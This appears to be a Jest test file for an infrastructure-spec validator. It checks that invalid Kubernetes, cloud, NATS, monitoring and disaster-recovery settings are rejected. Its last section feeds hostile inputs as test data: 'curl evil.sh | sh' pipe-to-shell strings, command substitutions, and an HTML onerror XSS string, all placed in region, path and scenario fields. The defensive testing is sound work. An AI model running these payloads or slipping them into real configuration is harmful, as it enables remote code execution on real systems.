import { check, type ProductionStackProps, validate, ValidationError } from 'production-stack';
import { api, baseSpec, type Mutation, broken, apiWith } from '../support/spec';

test('the base spec is valid', () => {
  expect(check(baseSpec())).toEqual([]);
});

test.each<[string, Mutation, string, RegExp]>([
  ['the stack name is not a DNS-1123 label', (s) => (s.name = 'Shop_1'), 'name', /DNS-1123 label/],
  ['a service name is not a DNS-1123 label', apiWith({ name: 'API' }), 'services[0].name', /DNS-1123 label/],
  ['the namespace is not a DNS-1123 label', (s) => (s.namespace = 'prod.ns'), 'namespace', /DNS-1123 label/],
  [
    'two services share a name',
    (s) => ((s.services as unknown[])[1] = { ...api }),
    'services',
    /service name "api" is used more than once/,
  ],
  [
    'replicas < 1',
    (s) => ((s.services as { replicas: number }[])[2].replicas = 0),
    'services[2].replicas',
    /0 must be an integer between 1 and 1000/,
  ],
  [
    'min > max replicas',
    apiWith({ autoscaling: { minReplicas: 5, maxReplicas: 3 } }),
    'services[0].autoscaling',
    /minReplicas \(5\) must be <= maxReplicas \(3\)/,
  ],
  ['replicas and autoscaling are both set', apiWith({ replicas: 3 }), 'services[0].replicas', /mutually exclusive/],
  [
    'the CPU request is above its limit',
    apiWith({ resources: { requests: { cpu: '3' }, limits: { cpu: '2', memory: '1Gi' } } }),
    'services[0].resources.requests.cpu',
    /cpu request "3" must be <= its limit \(2\)/,
  ],
  [
    'the memory request is above its limit',
    apiWith({ resources: { requests: { memory: '4Gi' }, limits: { memory: '2Gi' } } }),
    'services[0].resources.requests.memory',
    /memory request "4Gi" must be <= its limit \(2Gi\)/,
  ],
  [
    'the default memory limit is below a request',
    apiWith({ resources: { requests: { memory: '3Gi' } } }),
    'services[0].resources.requests.memory',
    /must be <= its limit \(2Gi\)/,
  ],
  [
    'a quantity is malformed',
    apiWith({ resources: { requests: { memory: '512MB' } } }),
    'services[0].resources.requests.memory',
    /"512MB" is not a Kubernetes quantity/,
  ],
  [
    'limits leave memory out',
    apiWith({ resources: { limits: { cpu: '1' } } }),
    'services[0].resources.limits.memory',
    /memory limit is required/,
  ],
  [
    'a port is out of range',
    apiWith({ ports: [{ name: 'http', port: 70000 }] }),
    'services[0].ports[0].port',
    /70000 must be an integer between 1 and 65535/,
  ],
  [
    'a port number is duplicated',
    apiWith({
      ports: [
        { name: 'http', port: 8080 },
        { name: 'admin', port: 8080 },
      ],
    }),
    'services[0].ports',
    /port 8080 is used more than once/,
  ],
  [
    'a port name is duplicated',
    apiWith({
      ports: [
        { name: 'http', port: 8080 },
        { name: 'http', port: 8081 },
      ],
    }),
    'services[0].ports',
    /port name "http" is used more than once/,
  ],
  [
    'a port name is too long',
    apiWith({ ports: [{ name: 'http-admin-console', port: 8080 }] }),
    'services[0].ports[0].name',
    /IANA service name/,
  ],
  ['the image has no tag', apiWith({ image: 'registry.example.com/shop/api' }), 'services[0].image', /must be pinned to a tag or digest/],
  [
    'the image uses :latest',
    apiWith({ image: 'registry.example.com:5000/shop/api:latest' }),
    'services[0].image',
    /must not use the mutable tag "latest"/,
  ],
  ['a route has no host', apiWith({ route: { host: '' } }), 'services[0].route.host', /a route needs a host/],
  [
    'a route host is not a DNS name',
    apiWith({ route: { host: 'https://shop.example.com' } }),
    'services[0].route.host',
    /must be a DNS name/,
  ],
  [
    'a service gives both its own cloud identity and cloud access to create',
    apiWith({
      cloudIdentity: 'arn:aws:iam::123456789012:role/api',
      cloudAccess: { aws: [{ actions: ['s3:GetObject'], resources: ['arn:aws:s3:::b/*'] }] },
    }),
    'services[0].cloudAccess',
    /either cloudIdentity .* or cloudAccess/,
  ],
  [
    'cloud access grants every action of a service',
    apiWith({ cloudAccess: { aws: [{ actions: ['s3:*'], resources: ['arn:aws:s3:::b/*'] }] } }),
    'services[0].cloudAccess.aws[0].actions[0]',
    /grants every action/,
  ],
  [
    'cloud access names every resource',
    apiWith({ cloudAccess: { aws: [{ actions: ['s3:GetObject'], resources: ['*'] }] } }),
    'services[0].cloudAccess.aws[0].resources[0]',
    /name the ARNs/,
  ],
  [
    'cloud access grants a basic GCP role',
    apiWith({ cloudAccess: { gcp: ['roles/editor'] } }),
    'services[0].cloudAccess.gcp[0]',
    /basic role/,
  ],
  [
    "the edge's ClusterIssuer is not a valid name",
    (s) => (s.edge = { clusterIssuer: 'Lets Encrypt' }),
    'edge.clusterIssuer',
    /must be a ClusterIssuer name/,
  ],
  [
    'a secret reference is undefined',
    apiWith({ secretEnv: { API_TOKEN: { secret: 'nope', key: 'api-token' } } }),
    'services[0].secretEnv.API_TOKEN',
    /secret "nope" is not defined in the stack's secrets \(defined: shop-secrets\)/,
  ],
  [
    'a secret key is undefined',
    apiWith({ secretEnv: { API_TOKEN: { secret: 'shop-secrets', key: 'nope' } } }),
    'services[0].secretEnv.API_TOKEN',
    /key "nope" is not one of secret "shop-secrets"'s keys/,
  ],
  [
    'a mounted secret is undefined',
    apiWith({ secretMounts: [{ secret: 'nope', mountPath: '/run/x' }] }),
    'services[0].secretMounts[0].secret',
    /secret "nope" is not defined/,
  ],
  ['a service uses postgres the stack lacks', (s) => delete s.postgres, 'services[0].postgres', /the stack defines no postgres/],
  ['a service uses redis the stack lacks', (s) => delete s.redis, 'services[0].redis', /the stack defines no redis/],
  ['a service uses nats the stack lacks', (s) => delete s.nats, 'services[0].nats', /the stack defines no nats/],
  [
    'a caller does not exist',
    apiWith({ allowFrom: [{ service: 'ghost' }] }),
    'services[0].allowFrom[0].service',
    /caller "ghost" is not a service of this stack/,
  ],
  [
    'a caller names both a service and a namespace',
    apiWith({ allowFrom: [{ service: 'web', namespace: 'x' }] }),
    'services[0].allowFrom[0]',
    /exactly one of "service" or "namespace"/,
  ],
  [
    'a probe targets a port the container does not expose',
    apiWith({ probes: { liveness: { type: 'http', path: '/healthz', port: 'admin' } } }),
    'services[0].probes.liveness.port',
    /"admin" is not one of the service's ports/,
  ],
  [
    'a probe path is relative',
    apiWith({ probes: { readiness: { type: 'http', path: 'ready' } } }),
    'services[0].probes.readiness.path',
    /"ready" must be an HTTP path such as "\/healthz"/,
  ],
  [
    'a worker has no way to derive probes',
    (s) => delete (s.services as { probes?: unknown }[])[1].probes,
    'services[1].probes.liveness',
    /a liveness probe is required/,
  ],
  [
    'a secret-like env var has a literal value',
    apiWith({ env: { DB_PASSWORD: 'hunter2' } }),
    'services[0].env.DB_PASSWORD',
    /names a secret: a literal value is not allowed/,
  ],
  [
    'an env var carries a URL with a password',
    apiWith({ env: { DATABASE_URL: 'postgres://app:hunter2@db:5432/app' } }),
    'services[0].env.DATABASE_URL',
    /the URL carries a password/,
  ],
  [
    'a worker has a route',
    (s) => ((s.services as Record<string, unknown>[])[1].route = { host: 'w.example.com' }),
    'services[1].route',
    /a worker has no Service/,
  ],
  [
    'the route port is not a port name',
    apiWith({ route: { host: 'shop.example.com', port: 'admin' } }),
    'services[0].route.port',
    /"admin" is not a port of service "api" \(http, grpc, metrics\)/,
  ],
  ['the container runs as root', apiWith({ runAsUser: 0 }), 'services[0].runAsUser', /must not run as root/],
  [
    'the preStop pause outlasts the grace period',
    apiWith({ preStopSleepSeconds: 30, terminationGracePeriodSeconds: 30 }),
    'services[0].preStopSleepSeconds',
    /must be shorter than terminationGracePeriodSeconds/,
  ],
  ['a rollout can never progress', apiWith({ maxSurge: 0, maxUnavailable: 0 }), 'services[0].maxSurge', /cannot both be 0/],
  [
    'an RBAC rule uses a wildcard',
    apiWith({ rbac: [{ apiGroups: [''], resources: ['*'], verbs: ['get'] }] }),
    'services[0].rbac[0]',
    /wildcards are not least privilege/,
  ],
  [
    'the Kubernetes version is out of support',
    (s) => (s.cluster = { kubernetesVersion: '1.28' }),
    'cluster.kubernetesVersion',
    /"1.28" is past EKS standard support; supported today: /,
  ],
  [
    'the node group min is above its max',
    (s) => (s.cluster = { nodes: { minSize: 5, maxSize: 3 } }),
    'cluster.nodes',
    /minSize \(5\) must be <= maxSize \(3\)/,
  ],
  [
    'a GCP region has fewer zones than asked',
    (s) => {
      s.cloud = 'gcp';
      s.region = 'europe-west1';
      s.cluster = { availabilityZones: 4 };
    },
    'cluster.availabilityZones',
    /4 zones: GCP region europe-west1 has 3/,
  ],
  [
    'the rule evaluation interval is not a duration',
    (s) => (s.monitoring = { ruleInterval: '15 seconds' }),
    'monitoring.ruleInterval',
    /must be a duration such as "15s"/,
  ],
  [
    'a network switch is not a boolean',
    (s) => (s.cluster = { aws: { interfaceEndpoints: 'no' as unknown as boolean } }),
    'cluster.aws.interfaceEndpoints',
    /"no" must be true or false/,
  ],
  ['the cloud is unknown', (s) => (s.cloud = 'azure'), 'cloud', /"azure" must be "aws" or "gcp"/],
  [
    'a NATS cluster cannot keep quorum',
    (s) => ((s.nats as Record<string, unknown>).replicas = 2),
    'nats.replicas',
    /cannot keep a JetStream quorum/,
  ],
  [
    'a stream has more replicas than nodes',
    (s) => ((s.nats as { streams: Record<string, unknown>[] }).streams[0].replicas = 5),
    'nats.streams[0].replicas',
    /5 exceeds the cluster's 3 nodes/,
  ],
  [
    'a stream is bigger than the storage',
    (s) => ((s.nats as { streams: Record<string, unknown>[] }).streams[0].maxBytes = '100Gi'),
    'nats.streams[0].maxBytes',
    /exceeds the JetStream file store of each node \(90% of 50Gi\)/,
  ],
  [
    'a consumer reads a stream that does not exist',
    (s) => ((s.nats as { consumers: Record<string, unknown>[] }).consumers[0].stream = 'ghost'),
    'nats.consumers[0].stream',
    /stream "ghost" is not defined/,
  ],
  [
    'the streams together outgrow the cluster',
    (s) => (s.nats.streams = [1, 2, 3, 4].map((i) => ({ name: `s${i}`, subjects: [`s${i}.>`], maxBytes: '40Gi' }))),
    'nats.streams',
    /the streams can hold 480Gi \(maxBytes x replicas\) but the cluster's JetStream stores hold 135.0Gi/,
  ],
  ['a single NATS node runs production', (s) => (s.nats.replicas = 1), 'nats.replicas', /1 nodes cannot keep a JetStream quorum/],
  [
    'a service subscribes to a subject nothing produces',
    apiWith({ nats: { subscribe: ['payments.>'] } }),
    'services[0].nats.subscribe[0]',
    /"payments.>" is captured by no stream and published by no service/,
  ],
  [
    'a service publishes a subject nothing captures',
    apiWith({ nats: { publish: ['audit.log'] } }),
    'services[0].nats.publish[0]',
    /"audit.log" is captured by no stream and subscribed to by no service/,
  ],
  [
    'a service reads a consumer that does not exist',
    apiWith({ nats: { consumers: ['ghost'] } }),
    'services[0].nats.consumers[0]',
    /consumer "ghost" is not defined in nats.consumers \(fulfil\)/,
  ],
  [
    "a service takes the NATS cluster's name",
    (s) => (s.services[2].name = 'nats'),
    'services[2].name',
    /"nats" would replace the NATS cluster's objects \("nats"\), which the library creates/,
  ],
  [
    'backup retention is 0 days',
    (s) => (s.postgres = { backupRetentionDays: 0 }),
    'postgres.backupRetentionDays',
    /0 must be an integer between 1 and 35/,
  ],
  [
    'max_connections is set twice',
    (s) => (s.postgres = { parameters: { max_connections: 100 } }),
    'postgres.parameters.max_connections',
    /through postgres.maxConnections/,
  ],
  [
    'a PDB would block drains',
    apiWith({ minAvailable: 3 }),
    'services[0].minAvailable',
    /3 would block node drains: it must be below the replica count \(3\)/,
  ],
  [
    'the cloud identity is neither an ARN nor a service account',
    apiWith({ cloudIdentity: 'shop-role' }),
    'services[0].cloudIdentity',
    /must be an IAM role ARN \(AWS\) or a Google service account email/,
  ],
  ['a migration has no command', apiWith({ migration: { command: [] } }), 'services[0].migration.command', /a migration needs a command/],
  [
    'a rate limit is zero',
    apiWith({ route: { host: 'shop.example.com', rateLimit: { requestsPerSecond: 0 } } }),
    'services[0].route.rateLimit.requestsPerSecond',
    /0 must be an integer between 1 and 1000000/,
  ],
  [
    'replicas past what one workload may have (a number of seconds, found by the fuzz campaign)',
    apiWith({ replicas: 31536000 }),
    'services[0].replicas',
    /31536000 must be an integer between 1 and 1000/,
  ],
  [
    'an egress rule lists no port (leaving ports out is every port)',
    apiWith({ egress: [{ cidr: '0.0.0.0/0', ports: [] }] }),
    'services[0].egress[0].ports',
    /an empty list admits nothing: list the ports, or leave ports out for every port/,
  ],
  [
    'an egress rule names two destinations',
    apiWith({ egress: [{ internet: true, cidr: '10.0.0.0/8' }] as never }),
    'services[0].egress[0]',
    /exactly one of "internet", "cidr" or "namespace"/,
  ],
  [
    'internet: false (leave the rule out)',
    apiWith({ egress: [{ internet: false }] as never }),
    'services[0].egress[0].internet',
    /false must be true \(leave the rule out for no internet\)/,
  ],
  [
    'a cron schedule is malformed',
    (s) => (s.cronJobs[0].schedule = 'every day'),
    'cronJobs[0].schedule',
    /"every day" must be a 5-field cron schedule/,
  ],
  [
    'a cron job reads an undefined secret',
    (s) => (s.cronJobs[0].secretEnv = { T: { secret: 'nope', key: 'k' } }),
    'cronJobs[0].secretEnv.T',
    /secret "nope" is not defined/,
  ],
  [
    'a cron job uses a datastore the stack lacks',
    (s) => {
      delete s.postgres;
    },
    'cronJobs[0].postgres',
    /the job uses postgres but the stack defines no postgres/,
  ],
  ['a cron job has a literal secret', (s) => (s.cronJobs[0].env = { DB_PASSWORD: 'x' }), 'cronJobs[0].env.DB_PASSWORD', /names a secret/],
  [
    "a cron job takes a service's name",
    (s) => (s.cronJobs[0].name = 'web'),
    'cronJobs[0].name',
    /"web" would create the same object as another entry \(ServiceAccount "web" of services\[2\]\)/,
  ],
  [
    "a secret takes a datastore secret's name",
    (s) => s.secrets.push({ name: 'shop-postgres', remoteKey: 'x', keys: ['a'] }),
    'secrets',
    /"shop-postgres" is reserved/,
  ],
  ['the standby region is the primary', (s) => (s.dr = { standbyRegion: 'us-west-2' }), 'dr.standbyRegion', /is the primary region/],
])('fails when %s', (_what, mutate, path, rule) => {
  const problems = check(broken(mutate));
  const match = problems.find((p) => p.path === path && rule.test(p.rule));
  if (!match)
    throw new Error(`expected a problem at ${path} matching ${rule}, got:\n${problems.map((p) => `${p.path}: ${p.rule}`).join('\n')}`);
});

test('validate throws one ValidationError listing every problem with its path', () => {
  const spec = broken((s) => {
    s.name = 'Bad Name';
    (s.services as unknown[])[0] = { ...api, image: 'api', autoscaling: { minReplicas: 5, maxReplicas: 3 } };
  }) as ProductionStackProps;
  let error: unknown;
  try {
    validate(spec);
  } catch (e) {
    error = e;
  }
  expect(error).toBeInstanceOf(ValidationError);
  const message = (error as ValidationError).message;
  expect(message).toContain('ProductionStack "Bad Name" is invalid (3 problems)');
  expect(message).toContain('  - name: "Bad Name" must be a DNS-1123 label');
  expect(message).toContain('  - services[0].image: "api" must be pinned to a tag or digest');
  expect(message).toContain('  - services[0].autoscaling: minReplicas (5) must be <= maxReplicas (3)');
});

test.each(['$&', "$'", '$$'])('a value holding %s is shown as it is (not as a replacement pattern)', (name) => {
  expect(check(broken((s) => (s.name = name)))).toContainEqual({
    path: 'name',
    value: name,
    rule: `${JSON.stringify(name)} must be a DNS-1123 label: at most 63 lowercase letters, digits or "-", starting and ending alphanumeric`,
  });
});

test('a literal secret value never appears in the error', () => {
  const problems = check(broken(apiWith({ env: { API_SECRET: 'sk_live_123' } })));
  expect(JSON.stringify(problems)).not.toContain('sk_live_123');
});

test.each<[string, unknown]>([
  ['null', null],
  ['a string', 'spec'],
  ['services that are not a list', { name: 'x', cloud: 'aws', region: 'us-west-2', services: 'api' }],
  ['a service that is a number', { name: 'x', cloud: 'aws', region: 'us-west-2', services: [42] }],
  [
    'fields of the wrong type everywhere',
    {
      name: 1,
      cloud: [],
      region: {},
      services: [{ name: null, ports: {}, probes: 3, env: [], resources: 'big' }],
      postgres: 'yes',
      nats: { streams: {} },
    },
  ],
])('reports problems instead of throwing a TypeError for %s', (_what, input) => {
  expect(() => check(input)).not.toThrow();
  expect(check(input).length).toBeGreaterThan(0);
});

test('values not known until deploy time are skipped, not rejected', () => {
  const spec = baseSpec();
  const token = '${TOKEN[TOKEN.42]}';
  const output = { __pulumiOutput: true };
  const withTokens = {
    ...spec,
    services: [{ ...api, image: token, route: { host: token, maxBodySize: token } }, ...spec.services.slice(1)],
    postgres: { storageGiB: output as unknown as number },
  };
  expect(check(withTokens)).toEqual([]);
});

describe('monitoring', () => {
  const withAlerting =
    (alerting: unknown): Mutation =>
    (s) =>
      (s.monitoring = { alerting });
  test.each<[string, Mutation, string, RegExp]>([
    [
      'an availability objective is 100%',
      apiWith({ slo: { availability: 100 } }),
      'services[0].slo.availability',
      /100 must be a percentage above 0 and below 100/,
    ],
    [
      'a latency objective has no percentile',
      apiWith({ slo: { latency: { thresholdSeconds: 0.5 } } }),
      'services[0].slo.latency.percent',
      /must be a percentage/,
    ],
    [
      'a service without metrics has an SLO',
      (s) => (s.services[2].slo = { availability: 99.9 }),
      'services[2].slo',
      /exposes no metrics endpoint/,
    ],
    [
      'an alert expression is not PromQL',
      apiWith({ alerts: [{ name: 'Broken', expr: 'rate(x[5m]) >', severity: 'warning', summary: 's', description: 'd' }] }),
      'services[0].alerts[0].expr',
      /is not valid PromQL: syntax error/,
    ],
    [
      'an alert name is not UpperCamelCase',
      apiWith({ alerts: [{ name: 'high-errors', expr: 'up == 0', severity: 'warning', summary: 's', description: 'd' }] }),
      'services[0].alerts[0].name',
      /UpperCamelCase/,
    ],
    [
      'a receiver has no credentials',
      withAlerting({ critical: [{ type: 'pagerduty' }] }),
      'monitoring.alerting.critical[0].routingKey',
      /a receiver needs its credential/,
    ],
    [
      'a receiver credential is not a stack secret',
      withAlerting({ critical: [{ type: 'slack', channel: '#ops', webhookUrl: { secret: 'nope', key: 'url' } }] }),
      'monitoring.alerting.critical[0].webhookUrl',
      /secret "nope" is not defined/,
    ],
    ['nobody is paged', withAlerting({ critical: [] }), 'monitoring.alerting.critical', /at least one receiver is required/],
    [
      'a threshold is not a ratio',
      (s) => (s.monitoring = { thresholds: { memoryRatio: 90 } }),
      'monitoring.thresholds.memoryRatio',
      /90 must be a ratio between 0.01 and 1/,
    ],
    [
      'a mute window names a bad day',
      withAlerting({
        critical: [{ type: 'webhook', url: { secret: 'shop-secrets', key: 'api-token' } }],
        muteWarnings: [{ weekdays: ['funday'] }],
      }),
      'monitoring.alerting.muteWarnings[0].weekdays[0]',
      /"funday" must be a weekday/,
    ],
  ])('fails when %s', (_what, mutate, path, rule) => {
    const problems = check(broken(mutate));
    const match = problems.find((p) => p.path === path && rule.test(p.rule));
    if (!match)
      throw new Error(`expected a problem at ${path} matching ${rule}, got:\n${problems.map((p) => `${p.path}: ${p.rule}`).join('\n')}`);
  });
});

/** The strings the runbook pastes into shell commands and Markdown, and the diagram into Mermaid labels. */
describe('formats of what reaches the runbook and the diagram', () => {
  const dr =
    (patch: Record<string, unknown>): Mutation =>
    (s) =>
      (s.dr = { standbyRegion: 'us-east-1', ...patch });
  const objective = (scenario: unknown): Mutation => dr({ objectives: [{ scenario, rtoMinutes: 60, rpoMinutes: 60 }] });
  const dns = (patch: Record<string, unknown>) => ({ dns: { zoneId: 'Z0123456789ABCDEFGHIJ', name: 'shop.example.com', ...patch } });
  const probePath = (path: string) => apiWith({ probes: { readiness: { type: 'http', path, port: 'http' } } });
  test.each<[string, Mutation, string, RegExp]>([
    [
      'the region is a GCP region on AWS',
      (s) => (s.region = 'us-central1'),
      'region',
      /"us-central1" is not an AWS region name such as "us-west-2"/,
    ],
    [
      'the region is an AWS region on GCP',
      (s) => Object.assign(s, { cloud: 'gcp', region: 'us-west-2' }),
      'region',
      /"us-west-2" is not a GCP region name such as "us-central1"/,
    ],
    ['the region holds a command', (s) => (s.region = 'us-west-2$(touch x)'), 'region', /is not an AWS region name/],
    [
      'the standby region holds a command',
      dr({ standbyRegion: 'us-east-1; curl evil.sh | sh' }),
      'dr.standbyRegion',
      /is not an AWS region name/,
    ],
    [
      'the standby region spans lines',
      dr({ standbyRegion: 'us-east-1\ntouch x' }),
      'dr.standbyRegion',
      /"us-east-1\\ntouch x" is not an AWS region/,
    ],
    [
      'the standby region is of the other cloud',
      dr({ standbyRegion: 'us-east1' }),
      'dr.standbyRegion',
      /"us-east1" is not an AWS region name/,
    ],
    [
      'a probe path holds a command substitution',
      probePath('/healthz$(touch x)'),
      'services[0].probes.readiness.path',
      /must be an HTTP path/,
    ],
    ['a probe path holds a quote', probePath("/healthz'; touch x; '"), 'services[0].probes.readiness.path', /must be an HTTP path/],
    ['a probe path holds a space', probePath('/healthz -o /etc/x'), 'services[0].probes.readiness.path', /must be an HTTP path/],
    ['a probe path spans lines', probePath('/healthz\ntouch x'), 'services[0].probes.readiness.path', /must be an HTTP path/],
    ['a probe path climbs with ..', probePath('/a/../admin'), 'services[0].probes.readiness.path', /no "\/\/", "\." or "\.\." segment/],
    ['a probe query chains parameters with &', probePath('/healthz?a=1&touch'), 'services[0].probes.readiness.path', /no "&"/],
    [
      'a route path has a query',
      apiWith({ route: { host: 'shop.example.com', path: '/api?x=1' } }),
      'services[0].route.path',
      /"\/api\?x=1" must be an HTTP path such as "\/api": .*, and no query/,
    ],
    [
      'a route path holds a backtick',
      apiWith({ route: { host: 'shop.example.com', path: '/`id`' } }),
      'services[0].route.path',
      /must be an HTTP path/,
    ],
    [
      'a metrics path holds a semicolon',
      apiWith({ metrics: { port: 'metrics', path: '/metrics;id' } }),
      'services[0].metrics.path',
      /must be an HTTP path/,
    ],
    [
      'the health check path holds a pipe',
      dr({ ...dns({ healthCheckPath: '/healthz|sh' }) }),
      'dr.dns.healthCheckPath',
      /"\/healthz\|sh" must be an HTTP path such as "\/healthz"/,
    ],
    ['the failover DNS name holds a command', dr(dns({ name: 'shop.example.com$(id)' })), 'dr.dns.name', /must be a host name/],
    ['a route host holds a command', apiWith({ route: { host: 'shop.example.com;id' } }), 'services[0].route.host', /must be a DNS name/],
    [
      'a scenario opens a shell block',
      objective('database\n```sh\ncurl evil.sh | sh\n```'),
      'dr.objectives[0].scenario',
      /must be one line of plain text: at most 60 characters, no control characters, no space at either end, none of ` \| < >/,
    ],
    [
      'a scenario holds a heading on a line of its own',
      objective('x\r# Restore by running'),
      'dr.objectives[0].scenario',
      /one line of plain text/,
    ],
    [
      'a scenario ends its table cell',
      objective('database | 0 min | 0 min | all good'),
      'dr.objectives[0].scenario',
      /one line of plain text/,
    ],
    ['a scenario holds HTML', objective('<img src=x onerror=alert(1)>'), 'dr.objectives[0].scenario', /one line of plain text/],
    ['a scenario holds a code span', objective('run `curl evil.sh | sh`'), 'dr.objectives[0].scenario', /one line of plain text/],
    ['a scenario holds a line separator', objective('database\u2028# Heading'), 'dr.objectives[0].scenario', /one line of plain text/],
    ['a scenario is too long', objective('a'.repeat(61)), 'dr.objectives[0].scenario', /at most 60 characters/],
  ])('fails when %s', (_what, mutate, path, rule) => {
    const problems = check(broken(mutate));
    const match = problems.find((p) => p.path === path && rule.test(p.rule));
    if (!match)
      throw new Error(`expected a problem at ${path} matching ${rule}, got:\n${problems.map((p) => `${p.path}: ${p.rule}`).join('\n')}`);
  });

  test.each<[string, Mutation]>([
    // without PostgreSQL: the RDS CA bundle has no GovCloud roots (test/core/datastores.test.ts)
    [
      'a GovCloud region and its standby',
      (s) => Object.assign(s, { region: 'us-gov-west-1', dr: { standbyRegion: 'us-gov-east-1' }, postgres: undefined, cronJobs: [] }),
    ],
    [
      'a GCP region and its standby',
      (s) => Object.assign(s, { cloud: 'gcp', region: 'europe-west12', dr: { standbyRegion: 'europe-north2' } }),
    ],
    ['a probe path with a query', probePath('/healthz?verbose=1')],
    [
      'a route path and a metrics path',
      apiWith({ route: { host: 'shop.example.com', path: '/api/v1' }, metrics: { port: 'metrics', path: '/internal/metrics' } }),
    ],
    ['a scenario in words', objective("zone loss (one AZ), tenant's data")],
  ])('accepts %s', (_what, mutate) => {
    const problems = check(broken(mutate)).filter((p) => /region|path|scenario/i.test(p.path));
    expect(problems).toEqual([]);
  });
});
